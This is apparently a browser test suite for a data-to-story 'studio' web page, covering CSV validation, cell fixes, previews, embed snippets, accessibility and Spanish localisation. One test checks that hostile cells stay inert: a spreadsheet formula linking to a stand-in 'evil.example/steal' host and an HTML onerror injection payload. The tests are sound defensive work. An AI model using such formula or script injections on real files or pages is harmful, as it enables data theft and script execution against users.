/**
 * The studio page as a producer uses it: the built dist/studio.html (npm test builds it) in an
 * iframe, driven through its file input and paste events with fixtures, in every engine.
 */
import { localize } from '../../src/data/i18n.js';
import { expect, waitUntil } from '@open-wc/testing';
import { sendKeys } from '@web/test-runner-commands';
import { EXAMPLE_TABS } from '../../src/studio/example.js';
import type { Dataset } from '../../src/data/types.js';
import { CSV_TABS } from '../helpers/csv-tabs.js';

type Studio = Window &
  typeof globalThis & { axe?: { run: (ctx: unknown, o: unknown) => Promise<{ violations: Array<{ id: string; nodes: unknown[] }> }> } };
type Explainer = HTMLElement & { shown?: Dataset };

async function open(lang = 'en', width = 1280): Promise<Studio> {
  const frame = document.createElement('iframe');
  frame.style.width = `${width}px`;
  frame.style.height = '900px';
  const loaded = new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }));
  frame.src = `/dist/studio.html?lang=${lang}`;
  document.body.append(frame);
  await loaded;
  const win = frame.contentWindow as Studio;
  await win.customElements.whenDefined('policy-explainer');
  // Ready: its reader (a worker) has started; the page has loaded all it ever will.
  await waitUntil(() => win.document.documentElement.dataset.ready !== undefined, 'the studio did not start', { timeout: 5000 });
  return win;
}

afterEach(() => document.querySelectorAll('iframe').forEach((f) => f.remove()));

const $ = <T extends HTMLElement = HTMLElement>(win: Studio, selector: string) => win.document.querySelector(selector) as T;
const status = (win: Studio) => $(win, '#status').textContent ?? '';

/** Hands files to the studio's file input, as a file picker does. */
function pick(win: Studio, files: Array<[name: string, content: BlobPart]>) {
  const input = $<HTMLInputElement>(win, '#files');
  const dt = new win.DataTransfer();
  for (const [name, content] of files) dt.items.add(new win.File([content], name));
  input.files = dt.files;
  input.dispatchEvent(new win.Event('change', { bubbles: true }));
}

/** A paste event with text on the clipboard, as a spreadsheet's copy puts it there. */
function paste(win: Studio, text: string, target: Element = win.document.body) {
  const dt = new win.DataTransfer();
  dt.setData('text/plain', text);
  let e: Event | undefined;
  try {
    e = new win.ClipboardEvent('paste', { clipboardData: dt, bubbles: true, cancelable: true });
  } catch {
    // An engine whose ClipboardEvent cannot be constructed with data: the same event, its clipboard given.
  }
  // Firefox constructs it but gives the page an empty clipboard (as for any untrusted paste): give it the data.
  if (!e || (e as ClipboardEvent).clipboardData?.getData('text/plain') !== text) {
    e = new win.Event('paste', { bubbles: true, cancelable: true });
    Object.defineProperty(e, 'clipboardData', { value: dt });
  }
  target.dispatchEvent(e);
}

const tabs = (edit: Record<string, string> = {}): Array<[string, string]> => Object.entries({ ...EXAMPLE_TABS, ...edit });
const fixture = async (name: string) => (await fetch(`/test/fixtures/studio/${name}`)).text();

/** Every text of an element, its shadow roots included. */
function deepText(node: Node): string {
  let text = '';
  const walk = (n: Node) => {
    if (n.nodeType === Node.TEXT_NODE) text += n.textContent;
    const root = (n as Element).shadowRoot;
    if (root) root.childNodes.forEach(walk);
    n.childNodes.forEach(walk);
  };
  walk(node);
  return text;
}
/** Text as compared: without white space, which labels wrapped in SVG lines lose between their lines. */
const squeeze = (s: string) => s.replace(/\s+/g, '');

/** The page converts, renders and previews; in WebKit under load that takes more than waitUntil's default second. */
const WAIT = { timeout: 5000 };

const preview = (win: Studio) => $<Explainer>(win, '#frame policy-explainer');
async function previewed(win: Studio, ...texts: string[]) {
  await waitUntil(
    () => {
      const el = preview(win);
      return el?.shown && texts.every((t) => squeeze(deepText(el)).includes(squeeze(t)));
    },
    `the preview does not show ${texts.join(', ')}`,
    WAIT,
  );
}

/**
 * Each problem as the producer reads it: where (tab, row, column), what is wrong, the button that
 * shows its row, and the details line (the value and the JSON pointer, tucked away).
 */
const problemRows = (win: Studio, kind: 'errors' | 'warnings') =>
  [...win.document.querySelectorAll(`.problems.${kind} li.problem`)].map((li) => {
    const text = (selector: string) => li.querySelector(selector)?.textContent!.trim().replace(/\s+/g, ' ') ?? '';
    return {
      where: text('.where'),
      message: text('.message'),
      show: text('button.show'),
      todo: text('.todo'),
      details: text('details dl'),
    };
  });

async function axeViolations(win: Studio) {
  if (!win.axe) {
    const s = win.document.createElement('script');
    s.src = '/node_modules/axe-core/axe.min.js';
    await new Promise((resolve) => {
      s.onload = resolve;
      win.document.head.append(s);
    });
  }
  const r = await win.axe!.run(win.document, { resultTypes: ['violations'] });
  return r.violations.map((v) => `${v.id}: ${(v.nodes as Array<{ target: unknown }>).map((n) => JSON.stringify(n.target)).join(' ')}`);
}

describe('the studio', () => {
  for (const lang of ['en', 'es'])
    it(`is accessible (axe) empty, with problems, and with a story, in ${lang === 'en' ? 'English' : 'Spanish'}`, async function () {
      // Three full axe runs over a long page: WebKit needs more than the default 10 s.
      this.timeout(30000);
      const win = await open(lang);
      expect(await axeViolations(win), `${lang}, empty`).to.deep.equal([]);
      pick(win, tabs({ 'stances.csv': await fixture('stances-broken.csv') }));
      await waitUntil(() => win.document.querySelector('.problems.errors'), 'no problem list', WAIT);
      expect(await axeViolations(win), `${lang}, problems`).to.deep.equal([]);
      pick(win, tabs());
      await previewed(win, 'Riverside');
      expect(await axeViolations(win), `${lang}, story`).to.deep.equal([]);
    });

  it('reads CSV tabs from its file input, lists every problem by file, row, column and value, and shows the row', async () => {
    const win = await open();
    pick(win, tabs({ 'stances.csv': await fixture('stances-broken.csv') }));
    // Every problem at once: the two values and the reference to an actor that does not exist (issue 24).
    await waitUntil(() => /3 errors/.test(status(win)), `status: ${status(win)}`, WAIT);
    const rows = problemRows(win, 'errors');
    // Where, in the producer's words: the tab, the row and the column, by name and letter.
    expect(rows.map((r) => [r.where, r.show])).to.deep.equal([
      ['stances tab, row 3, column position (C)', 'Show row 3'],
      ['stances tab, row 3, column date (E)', 'Show row 3'],
      ['stances tab, row 5, column actor (A)', 'Show row 5'],
    ]);
    expect(rows[2].message).to.match(/refers to actor "nobody"/);
    expect(rows[0].message).to.match(/^must be one of "support", "oppose", "mixed", "unknown" \(got "maybe"\)/);
    expect(rows[1].message).to.match(/"2024-02-30" is not a date that exists/);
    // The value and the JSON pointer are details, in a line of their own.
    expect(rows[1].details).to.equal('Value: 2024-02-30 In the dataset (JSON pointer): /stances/1/date File: stances.csv');
    expect(win.document.querySelector('.problems.errors details')!.hasAttribute('open')).to.equal(false);
    // Nothing is exported while the data is invalid: step 4 says where to go instead.
    expect($(win, '#out')).to.equal(null);
    expect($(win, '#out-blocked').textContent!.trim()).to.match(/^Fix the 3 errors in step 2 first/);
    expect(preview(win)).to.equal(null);

    // "Show row 3" shows the row in its file, the bad cell marked, and takes the focus there.
    ($(win, '.problems.errors li.problem:nth-child(2) button.show') as HTMLButtonElement).click();
    const source = $(win, '#source');
    expect(source.hidden).to.equal(false);
    expect(win.document.activeElement).to.equal(source);
    expect(source.querySelector('h3')!.textContent).to.equal('stances tab, row 3');
    expect(source.querySelector('tr[aria-current="true"] th')!.textContent).to.equal('3');
    expect(source.querySelector('.hit')!.textContent).to.equal('2024-02-30');

    // Once the cells are right, the reference to an actor who is not in actors.csv shows, by its row.
    pick(win, [['stances.csv', (await fixture('stances-broken.csv')).replace('maybe,reported,2024-02-30', 'mixed,reported,2024-02-01')]]);
    await waitUntil(() => /1 error\b/.test(status(win)), `status: ${status(win)}`, WAIT);
    expect(problemRows(win, 'errors')[0].where).to.equal('stances tab, row 5, column actor (A)');
    expect(problemRows(win, 'errors')[0].message).to.match(/^refers to actor "nobody", which is not in actors\.csv/);

    // Replacing the file updates everything: no problems, a preview, things to take away.
    pick(win, [['stances.csv', EXAMPLE_TABS['stances.csv']]]);
    await previewed(win, 'Riverside’s bike lanes (an example)', 'Council hearing draws 200 residents', 'Mayor Ana Ruiz');
    expect(win.document.querySelector('.problems.errors')).to.equal(null);
    expect($(win, '#out')).to.not.equal(null);
  });

  it('before any data, step 4 says what to do first, not an error, and its button starts the example', async () => {
    const win = await open();
    expect(status(win)).to.equal('Bring a file, paste a tab, or start from an example.');
    expect($(win, '#out-blocked')).to.equal(null);
    const empty = $(win, '#out-empty');
    expect(empty.textContent).to.contain('First bring your data in step 1');
    // Not styled as an error: no error colour anywhere in step 4.
    const bad = win.getComputedStyle($(win, '#status')).borderLeftColor;
    expect(win.getComputedStyle(empty).backgroundColor).to.not.equal('rgb(253, 236, 236)');
    expect(win.getComputedStyle(empty).borderTopColor).to.not.equal(bad);
    empty.querySelector('button')!.click();
    await previewed(win, 'Riverside’s bike lanes (an example)');
    expect($(win, '#out-empty')).to.equal(null);
    expect($(win, '#out')).to.not.equal(null);
  });

  it('fixes a cell in place: the value changed beside its problem is written into the tab, and checked again', async () => {
    const win = await open();
    pick(win, tabs({ 'stances.csv': await fixture('stances-broken.csv') }));
    await waitUntil(() => /3 errors/.test(status(win)), `status: ${status(win)}`, WAIT);
    const fix = async (where: string, value: string, left: RegExp) => {
      const li = [...win.document.querySelectorAll('.problems.errors li.problem')].find(
        (x) => x.querySelector('.where')!.textContent === where,
      )!;
      const input = li.querySelector<HTMLInputElement>('form.fix input')!;
      // The field holds the cell as the tab has it now, and is named by its label.
      expect(input.labels![0].textContent).to.equal('Change the cell to');
      input.value = value;
      li.querySelector<HTMLButtonElement>('form.fix button')!.click();
      await waitUntil(() => left.test(status(win)), `after ${where}: ${status(win)}`, WAIT);
    };
    const cell = (where: string) =>
      [...win.document.querySelectorAll('.problems.errors li.problem')]
        .find((x) => x.querySelector('.where')!.textContent === where)!
        .querySelector<HTMLInputElement>('form.fix input')!.value;
    expect(cell('stances tab, row 3, column position (C)')).to.equal('maybe');
    await fix('stances tab, row 3, column position (C)', 'mixed', /^2 errors/);
    expect(problemRows(win, 'errors').map((r) => r.where)).to.deep.equal([
      'stances tab, row 3, column date (E)',
      'stances tab, row 5, column actor (A)',
    ]);
    await fix('stances tab, row 3, column date (E)', '2024-02-01', /^1 error\b/);
    await fix('stances tab, row 5, column actor (A)', 'shops', /^Ready/);
    await previewed(win, 'Main Street Merchants');
    // The tab now holds the fixed cells; the other cells are as they were (a comma inside a quoted cell too).
    const stances = [...win.document.querySelectorAll<HTMLAnchorElement>('#data-links a')].find((a) => a.textContent === 'stances.csv')!;
    const written = await (await fetch(stances.href)).text();
    expect(written).to.contain('mayor,parking,mixed,reported,2024-02-01');
    expect(written).to.contain('shops,network,mixed,reported,2023-11-14');
    expect(written).to.contain('"Would remove some parking, not all."');
  });

  it('fixes a cell of a pasted (tab-separated) tab, and the focus goes to the status that says what is left', async () => {
    const win = await open();
    pick(win, tabs());
    await previewed(win, 'Riverside');
    paste(win, EXAMPLE_TABS['events.csv'].replace('2023-11-14', '14/11/2023').replace(/,/g, '\t'));
    await waitUntil(() => /1 error\b/.test(status(win)), `status: ${status(win)}`, WAIT);
    const [problem] = problemRows(win, 'errors');
    expect(problem.where).to.equal('events tab, row 4, column date (B)');
    const input = $<HTMLInputElement>(win, '.problems.errors form.fix input');
    expect(input.value).to.equal('14/11/2023');
    input.focus();
    input.value = '2023-11-14';
    await sendKeys({ press: 'Enter' });
    expect(win.document.activeElement).to.equal($(win, '#status'));
    await previewed(win, 'Council hearing draws 200 residents');
    expect(status(win)).to.match(/^Ready/);
  });

  it('says what to do about a date a spreadsheet reformatted, once, with the two dates it can be', async () => {
    const win = await open();
    pick(win, tabs({ 'events.csv': EXAMPLE_TABS['events.csv'].replace('2023-11-14', '10/04/2022') }));
    await waitUntil(() => problemRows(win, 'errors').length === 1, 'no problem', WAIT);
    const [problem] = problemRows(win, 'errors');
    expect(problem.where).to.equal('events tab, row 4, column date (B)');
    expect(problem.todo).to.contain('format the date column as plain text');
    expect(problem.todo).to.contain('2022-10-04 if the month comes first, 2022-04-10 if the day does');
    // Said once: the message keeps what is wrong, the hint is the line below it.
    expect(problem.message).to.not.contain('plain text');
    expect(problem.message).to.contain('(got "10/04/2022")');
    $<HTMLSelectElement>(win, '#ui-lang').value = 'es';
    $(win, '#ui-lang').dispatchEvent(new win.Event('change'));
    expect(problemRows(win, 'errors')[0].todo).to.contain('dé a la columna de fechas formato de texto sin formato');
  });

  it('reads a tab pasted from a spreadsheet (tab-separated text), and a second paste replaces the first', async () => {
    const win = await open();
    pick(win, tabs());
    await previewed(win, 'Build the full network?');
    const tsv = (csv: string) => csv.replace(/,/g, '\t');
    paste(
      win,
      tsv(
        'id,label_en,label_es,description_en,description_es\nnetwork,Finish the lanes?,¿Terminar los carriles?,All of them.,Todos.\nparking,Less parking?,¿Menos estacionamiento?,Some.,Algo.\n',
      ),
    );
    await previewed(win, 'Finish the lanes?');
    expect([...win.document.querySelectorAll('#inputs .name')].map((n) => n.textContent)).to.include('issues.csv');
    expect(squeeze(deepText(preview(win)))).to.not.include(squeeze('Build the full network?'));
    paste(
      win,
      tsv(
        'id,label_en,label_es,description_en,description_es\nnetwork,Build it all?,¿Construirlo todo?,All.,Todo.\nparking,Less parking?,¿Menos?,Some.,Algo.\n',
      ),
      $(win, '#paste'),
    );
    await previewed(win, 'Build it all?');
  });

  it("reads TimelineJS3's JSON and its Google Sheets template as CSV, warnings apart from errors", async () => {
    const win = await open();
    pick(win, [['riverside-bike-lanes.json', await (await fetch('/test/fixtures/timelinejs/riverside-bike-lanes.json')).text()]]);
    await previewed(win, 'Riverside’s bike lane fight', 'City adopts its first bike plan');
    expect(win.document.querySelector('.problems.errors')).to.equal(null);
    expect(problemRows(win, 'warnings').map((r) => r.message)).to.include(
      'no actors, issues or stances in a TimelineJS file: the stance matrix stays empty until you add them',
    );
    // No matrix in a TimelineJS file: no matrix image to make.
    expect($<HTMLButtonElement>(win, '[data-card="matrix-1200x675"]').disabled).to.equal(true);

    const csv = await (await fetch('/node_modules/@knight-lab/timelinejs/src/js/core/__tests__/women_in_computing.csv')).text();
    pick(win, [['Women in computing - Sheet1.csv', csv]]);
    await previewed(win, 'Women in Computing', 'Ada Lovelace');
    expect(status(win)).to.match(/^Ready: 10 events/);
    expect(problemRows(win, 'warnings').some((r) => /2 links in the text dropped/.test(r.message))).to.equal(true);
  });

  it('refuses huge, binary and broken files with a clear message, without freezing the page', async () => {
    const win = await open();
    const started = performance.now();
    pick(win, [
      ['huge.csv', new Uint8Array(50 * 1024 * 1024)],
      ['story.xlsx', new Uint8Array([0x50, 0x4b, 0x03, 0x04, 0, 0, 0, 0])],
    ]);
    await waitUntil(() => problemRows(win, 'errors').length === 2, 'the refused files are not listed', WAIT);
    expect(performance.now() - started).to.be.below(3000);
    const [huge, xlsx] = problemRows(win, 'errors');
    expect(huge.where).to.equal('huge.csv');
    expect(huge.message).to.match(/^is 50\.0 MB, more than the 5\.0 MB a story file can be/);
    expect(xlsx.message).to.match(/spreadsheet workbook .*export each tab as CSV/);

    pick(win, [['broken.json', await fixture('broken.json')]]);
    await waitUntil(() => problemRows(win, 'errors').length === 1, 'no JSON error', WAIT);
    const [row] = problemRows(win, 'errors');
    expect([row.where, row.show]).to.deep.equal(['broken.json, line 6, column 32', 'Show line 6']);
    expect(row.message).to.match(/not valid JSON: a comma after the last property/);
    // A JSON file has no cell to change in place.
    expect(win.document.querySelector('.problems.errors form.fix')).to.equal(null);
    ($(win, '.problems.errors button.show') as HTMLButtonElement).click();
    expect($(win, '#source tr[aria-current="true"]').textContent).to.contain('"date": "2024", }');
  });

  it('shows hostile cells as text, never as markup or a formula, and warns about them by cell', async () => {
    const win = await open();
    (window as unknown as { __pwned?: number }).__pwned = undefined;
    pick(win, tabs({ 'events.csv': await fixture('events-hostile.csv') }));
    // As text, tags and all (a word too long for its label is cut with a hyphen, so only part of the tag is matched).
    await previewed(win, '=HYPERLINK("https://evil.example/steal","Click me")', '<img src=x onerror="parent.__pwned=1"><b>');
    const warnings = problemRows(win, 'warnings');
    expect(warnings.map((r) => r.where)).to.deep.equal([
      'events tab, row 2, column title_en (E)',
      'events tab, row 3, column title_en (E)',
      'events tab, row 3, column summary_en (G)',
    ]);
    expect(warnings[0].message).to.match(/starts like a spreadsheet formula: kept as plain text, never run/);
    expect(warnings[1].message).to.match(/contains HTML: shown as plain text/);
    // Nowhere on the page, light DOM or shadow DOM, did the cells become elements.
    const all = (root: Document | ShadowRoot): Element[] =>
      [...root.querySelectorAll('*')].flatMap((el) => [el, ...(el.shadowRoot ? all(el.shadowRoot) : [])]);
    expect(
      all(win.document).filter((el) => el.tagName === 'IMG' || (el.tagName === 'SCRIPT' && /pwned/.test(el.textContent!))),
    ).to.deep.equal([]);
    // The CSV written back guards the formula.
    const events = [...win.document.querySelectorAll<HTMLAnchorElement>('#data-links a')].find((a) => a.textContent === 'events.csv')!;
    expect(events.download).to.match(/events\.csv$/);
    const inline = $<HTMLTextAreaElement>(win, '#snippet-inline').value;
    expect(inline).to.not.match(/<img|<script>parent/);
    expect((window as unknown as { __pwned?: number }).__pwned).to.equal(undefined);
  });

  it('previews at 375 and 1280 px, light and dark, English and Spanish, each view', async () => {
    const win = await open();
    pick(win, tabs());
    await previewed(win, 'How we got here');
    const choose = (name: string, value: string) => {
      const radio = $<HTMLInputElement>(win, `#view-options input[name="${name}"][value="${value}"]`);
      radio.click();
    };
    const el = preview(win);
    expect(el.getBoundingClientRect().width).to.equal(375);
    choose('width', '1280');
    expect(el.getBoundingClientRect().width).to.equal(1280);
    choose('theme', 'dark');
    expect(el.getAttribute('theme')).to.equal('dark');
    expect(win.getComputedStyle(el).backgroundColor).to.equal('rgb(23, 25, 29)');
    choose('lang', 'es');
    await previewed(win, 'Los carriles bici de Riverside (un ejemplo)', 'Cómo se llegó hasta aquí');
    choose('view', 'matrix');
    await waitUntil(() => !el.shadowRoot!.querySelector('policy-timeline'), 'the timeline is still shown', WAIT);
    expect(el.shadowRoot!.querySelector('stance-matrix')).to.exist;
    choose('view', 'timeline');
    await waitUntil(() => !el.shadowRoot!.querySelector('stance-matrix'), 'the matrix is still shown', WAIT);
  });

  it('writes snippets for the script beside it, and leaves an empty address empty, saying so', async () => {
    const win = await open();
    pick(win, tabs());
    await previewed(win, 'Riverside');
    const snippet = (kind: string) => $<HTMLTextAreaElement>(win, `#snippet-${kind}`).value;
    // The studio's own folder (dist/), which serves the script today, not a CDN the package is not on yet.
    expect(snippet('inline')).to.contain(`<script src="${location.origin}/dist/policy-explainer.js" defer>`);
    expect($<HTMLInputElement>(win, '#host-url').value).to.equal('');
    expect(snippet('src')).to.not.contain('example.org');
    const warnings = [...win.document.querySelectorAll('#snippets .warn')].map((p) => p.textContent);
    expect(warnings).to.have.length(2);
    expect(warnings[0]).to.contain('Fill in where you will put the JSON file');
  });

  it('reads a spreadsheet\u2019s link when asked, previews its story, and writes snippets that follow the sheet', async () => {
    const win = await open();
    const id = `studio${Date.now().toString(36)}${Math.random().toString(36).slice(2, 8)}`;
    const tabsOfExample = Object.entries(EXAMPLE_TABS).map(([file, csv]) => ({ name: file.replace(/\.csv$/, ''), csv }));
    await fetch(`/__sheets/_control/sheets/${id}`, { method: 'PUT', body: JSON.stringify({ tabs: tabsOfExample }) });
    // The page asks Google; the test server's stand-in answers at the same paths.
    const real = win.fetch.bind(win);
    win.fetch = (input: RequestInfo | URL, init?: RequestInit) =>
      real(String(input).replace('https://docs.google.com/', '/__sheets/'), init);
    const link = `https://docs.google.com/spreadsheets/d/${id}/edit?usp=sharing`;
    $<HTMLInputElement>(win, '#live-url').value = link;
    $<HTMLButtonElement>(win, '#live-read').click();
    await previewed(win, 'Riverside');
    const live = $<HTMLTextAreaElement>(win, '#snippet-live').value;
    expect(live).to.contain(`<policy-explainer src="${link}"`);
    expect(live).to.contain('<script type="application/json">');
    expect($<HTMLTextAreaElement>(win, '#snippet-wordpress').value).to.equal(`[policy-explainer src="${link}"]`);
  });

  it('checks the sources\u2019 links only when asked, and lists each one', async () => {
    const win = await open();
    // A story whose sources link to this server: one page that is there, one that is gone.
    const story = await (await fetch('/test/fixtures/minimal-dataset.json')).json();
    story.sources = [
      { id: 'here', label: 'A page that is there', url: `${location.origin}/data/chicago-welcoming-city.json` },
      { id: 'gone', label: 'A page that is gone', url: `${location.origin}/no-such-page-${Date.now()}` },
    ];
    for (const e of story.events) e.sources = ['here'];
    for (const s of story.stances ?? []) if (s.sources) s.sources = ['gone'];
    pick(win, [['story.json', JSON.stringify(story)]]);
    await previewed(win, localize(story.title, 'en'));
    const asked = () =>
      win.performance.getEntriesByType('resource').filter((e) => /no-such-page|chicago-welcoming-city/.test(e.name)).length;
    expect($(win, '#links-report').textContent!.trim()).to.equal('');
    expect(asked(), 'no request before the click').to.equal(0);
    $<HTMLButtonElement>(win, '#check-links').click();
    await waitUntil(
      () => /2 links checked; 1 gone/.test($(win, '#links-report').textContent!),
      `report: ${$(win, '#links-report').textContent}`,
      WAIT,
    );
    const text = $(win, '#links-report').textContent!.replace(/\s+/g, ' ');
    expect(text).to.match(/here \(A page that is there\) url: ok/);
    expect(text).to.match(/gone \(A page that is gone\) url: gone \(404\)/);
  });

  it('each snippet pasted into a fresh page shows the same story', async () => {
    const win = await open();
    pick(win, tabs());
    await previewed(win, 'Riverside');
    const shown = preview(win).shown!;
    const set = (id: string, value: string) => {
      const input = $<HTMLInputElement>(win, `#${id}`);
      input.value = value;
      input.dispatchEvent(new win.Event('input', { bubbles: true }));
    };
    const host = `${location.origin}/__test/store/studio-snippet.json`;
    set('script-url', `${location.origin}/dist/`);
    set('host-url', host);
    const snippet = (kind: string) => $<HTMLTextAreaElement>(win, `#snippet-${kind}`).value;
    // The inline snippet carries the dataset itself; the hosted file is that dataset, put where the src points.
    const json = /<script type="application\/json">\n([\s\S]*)\n {2}<\/script>/.exec(snippet('inline'))![1];
    expect(JSON.parse(json)).to.deep.equal(shown);
    await fetch(host, { method: 'PUT', body: JSON.stringify(shown) });

    for (const kind of ['inline', 'src', 'iframe']) {
      const page = document.createElement('iframe');
      page.style.width = '800px';
      page.style.height = '600px';
      const loaded = new Promise((resolve) => page.addEventListener('load', resolve, { once: true }));
      page.srcdoc = `<!doctype html><html lang="en"><head><meta charset="utf-8"></head><body>${snippet(kind)}</body></html>`;
      document.body.append(page);
      await loaded;
      // The iframe snippet loads lazily: bring it into view, as a reader scrolling to it would.
      page.scrollIntoView();
      const outer = page.contentDocument!;
      let doc = outer;
      if (kind === 'iframe') {
        const inner = doc.querySelector('iframe')!;
        await waitUntil(() => inner.contentDocument?.querySelector('policy-explainer'), 'embed.html did not place the explainer', WAIT);
        doc = inner.contentDocument!;
        // The snippet's listener sizes the iframe to the explainer.
        await waitUntil(() => parseInt(inner.style.height) > 300, 'the iframe was not resized', WAIT);
      }
      const el = doc.querySelector('policy-explainer') as Explainer;
      await waitUntil(
        () => el.shown && squeeze(deepText(el)).includes(squeeze('Council hearing draws 200 residents')),
        `${kind}: the story is not shown: ${deepText(el).slice(0, 300)}`,
        WAIT,
      );
      expect(el.shown, kind).to.deep.equal(shown);
      // Before the script runs (or where it never does), the fallback sentence says what the story is.
      const fallback = kind === 'iframe' ? outer.querySelector('noscript')! : el;
      expect(fallback.textContent, kind).to.contain('Riverside’s bike lanes (an example): A made-up story');
      page.remove();
    }
  });

  it('starts from the Chicago story, the small example or blank template tabs', async () => {
    const win = await open();
    $(win, '#start-chicago').click();
    await previewed(win, 'Welcoming City', 'Brandon Johnson');
    expect(status(win)).to.match(/^Ready: 11 events, 10 actors, 3 issues/);
    $(win, '#start-example').click();
    await previewed(win, 'Riverside’s bike lanes (an example)');
    $(win, '#start-blank').click();
    const names = [...win.document.querySelectorAll<HTMLAnchorElement>('#blank a')].map((a) => a.download);
    expect(names).to.deep.equal(CSV_TABS);
  });

  it('fits a phone: at 375 px the page never scrolls sideways (the preview and tables scroll in their own frames)', async () => {
    const win = await open('es', 375);
    $(win, '#start-chicago').click();
    await previewed(win, 'Welcoming City');
    const root = win.document.documentElement;
    expect(root.scrollWidth).to.be.at.most(root.clientWidth);
  });

  it('the CSV tabs it writes read back, in the studio, to the same dataset', async () => {
    const win = await open();
    $(win, '#start-chicago').click();
    await previewed(win, 'Welcoming City');
    const shown = preview(win).shown!;
    const links = [...win.document.querySelectorAll<HTMLAnchorElement>('#data-links ul a')];
    expect(links.map((a) => a.textContent)).to.deep.equal(CSV_TABS);
    const files: Array<[string, string]> = [];
    for (const a of links) files.push([a.download, await (await fetch(a.href)).text()]);
    expect(files[0][0]).to.equal('chicago-welcoming-city - events.csv');
    pick(win, files);
    await waitUntil(() => preview(win).shown !== shown && preview(win).shown, 'the tabs were not read back', WAIT);
    expect(preview(win).shown).to.deep.equal(shown);
    expect(win.document.querySelector('.problems')).to.equal(null);
  });

  it('makes PNG images of the timeline and the matrix at 1200 × 675 and 1080 × 1080', async () => {
    const win = await open();
    pick(win, tabs());
    await previewed(win, 'Riverside');
    for (const card of ['timeline-1200x675', 'timeline-1080x1080', 'matrix-1200x675', 'matrix-1080x1080']) {
      $(win, `[data-card="${card}"]`).click();
      await waitUntil(() => $(win, '#image-out a')?.getAttribute('download')?.includes(card), `${card}: no image`, WAIT);
      const img = $<HTMLImageElement>(win, '#image-out img');
      await waitUntil(() => img.complete && img.naturalWidth > 0, `${card}: the image did not load`, WAIT);
      const [w, h] = card.split('-')[1].split('x').map(Number);
      expect([img.naturalWidth, img.naturalHeight], card).to.deep.equal([w, h]);
      expect(img.alt).to.contain('Riverside’s bike lanes (an example)');
      // The card is drawn in the chosen theme: its corner is the explainer's light background.
      const canvas = document.createElement('canvas');
      canvas.width = 4;
      canvas.height = 4;
      const ctx = canvas.getContext('2d')!;
      ctx.drawImage(img, 0, 0, 4, 4, 0, 0, 4, 4);
      expect([...ctx.getImageData(0, 0, 1, 1).data], card).to.deep.equal([255, 255, 255, 255]);
    }
  });

  it('makes no request at all once loaded, whatever the producer does', async () => {
    const win = await open();
    const network = () =>
      win.performance
        .getEntriesByType('resource')
        .map((e) => e.name)
        .filter((n) => /^https?:/.test(n));
    const before = network().length;
    const blocked: string[] = [];
    win.document.addEventListener('securitypolicyviolation', (e) => blocked.push(`${e.violatedDirective} ${e.blockedURI}`));
    pick(win, tabs({ 'events.csv': await fixture('events-hostile.csv') }));
    await previewed(win, 'Riverside');
    paste(win, EXAMPLE_TABS['events.csv'].replace(/,/g, '\t'));
    await previewed(win, 'City adopts the bike plan');
    $(win, '#start-chicago').click();
    await previewed(win, 'Welcoming City');
    for (const value of ['1280', 'dark', 'es', 'matrix']) $(win, `#view-options input[value="${value}"]`).click();
    $(win, '[data-card="matrix-1200x675"]').click();
    await waitUntil(() => $(win, '#image-out img'), 'no image', WAIT);
    $(win, '#start-blank').click();
    // The explainer's own controls: open an event's details.
    preview(win).setAttribute('view', 'both');
    await new Promise((r) => setTimeout(r, 300));
    expect(network().slice(before)).to.deep.equal([]);
    expect(blocked).to.deep.equal([]);
  });

  it('works from the keyboard alone', async () => {
    const win = await open();
    $(win, '#start-example').focus();
    await sendKeys({ press: 'Enter' });
    await previewed(win, 'Riverside');
    pick(win, tabs({ 'stances.csv': await fixture('stances-broken.csv') }));
    await waitUntil(() => win.document.querySelector('.problems.errors button.show'), 'no problem to show', WAIT);
    const show = $(win, '.problems.errors button.show');
    show.focus();
    await sendKeys({ press: 'Enter' });
    expect(win.document.activeElement).to.equal($(win, '#source'));
    // Through the rows shown to the way back, then back to the problem.
    await sendKeys({ press: 'Tab' });
    await sendKeys({ press: 'Tab' });
    expect(win.document.activeElement!.textContent).to.equal('Back to the problem');
    await sendKeys({ press: 'Enter' });
    expect(win.document.activeElement).to.equal(show);
    // The preview's options are radio groups: arrows choose.
    $(win, '#view-options input[name="width"][value="375"]').focus();
    await sendKeys({ press: 'ArrowRight' });
    expect($<HTMLInputElement>(win, '#view-options input[name="width"][value="1280"]').checked).to.equal(true);
  });

  it('speaks Spanish: its own words and the problems', async () => {
    const win = await open('es');
    expect($(win, 'h1').textContent).to.equal('Haga su propia historia');
    expect(win.document.documentElement.lang).to.equal('es');
    pick(win, tabs({ 'stances.csv': await fixture('stances-broken.csv') }));
    await waitUntil(() => /3 errores/.test(status(win)), `status: ${status(win)}`, WAIT);
    const rows = problemRows(win, 'errors');
    expect([rows[1].where, rows[1].show]).to.deep.equal(['pestaña stances, fila 3, columna date (E)', 'Ver la fila 3']);
    expect(rows[0].message).to.match(/^debe ser uno de "support", "oppose", "mixed", "unknown" \(se recibió "maybe"\)/);
    expect(rows[1].message).to.match(/"2024-02-30" no es una fecha que exista/);
    // The page's language switch: back to English, same problems in the command line's words.
    const select = $<HTMLSelectElement>(win, '#ui-lang');
    select.value = 'en';
    select.dispatchEvent(new win.Event('change'));
    expect(problemRows(win, 'errors')[1].message).to.match(/is not a date that exists/);
    expect(problemRows(win, 'errors')[1].where).to.equal('stances tab, row 3, column date (E)');
  });
});
